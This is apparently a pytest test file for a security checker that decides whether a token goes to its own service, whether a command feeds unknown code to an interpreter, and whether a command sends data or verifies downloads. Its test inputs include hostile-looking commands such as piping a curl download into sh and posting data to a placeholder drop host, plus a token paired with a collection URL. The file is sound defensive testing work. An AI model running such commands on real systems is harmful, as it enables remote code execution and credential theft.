"""What the flows ask of commands and credentials: who sends, who interprets, whose token it is."""

import pytest

from lazaretto.core.destination import checks_download, own_service, reads_code, transfers


@pytest.mark.parametrize(
    ("variable", "address", "own"),
    [
        ("GITHUB_TOKEN", "https://api.github.com.invalid/repos", True),
        ("GH_TOKEN", "https://raw.githubusercontent.com.invalid/a", True),
        ("GITHUB_TOKEN", "https://github-mirror.invalid.invalid/", False),
        ("NPM_TOKEN", "https://collect.invalid/in", False),
        ("NPM_TOKEN", None, None),
        ("API_TOKEN", "https://api.invalid/v1", None),
        ("~/.npmrc", "https://npm.example.invalid/", False),
    ],
)
def test_a_token_belongs_to_the_service_in_its_name(variable: str, address: str | None, own: bool | None) -> None:
    """Only whole names of hosts count, and a name that says nothing cannot be told."""
    assert own_service(variable, address) is own


@pytest.mark.parametrize(
    ("command", "reads"),
    [("sh", True), ("/bin/bash -s", True), ("sh -c *", True), ("node -e {}", True), ("bin/pad --version", False),
     ("sh -c tar xzf *", False), ("node install.js", False), ("node --version", False), ("", False), (None, False)],
)  # fmt: skip
def test_an_interpreter_takes_unknown_code(command: str | None, reads: bool) -> None:
    """A shell with nothing to run reads its input; one with a known script does not."""
    assert reads_code(command) is reads


def test_tools_are_told_by_whole_words() -> None:
    """A tool that sends, and one that compares what came."""
    assert transfers("/usr/bin/curl -d x https://drop.invalid")
    assert not transfers("node curly.js")
    assert not transfers(None)
    assert checks_download("curl -o p https://files.invalid/p && sha256sum -c p.sum && sh p")
    assert not checks_download("curl https://files.invalid/p | sh")
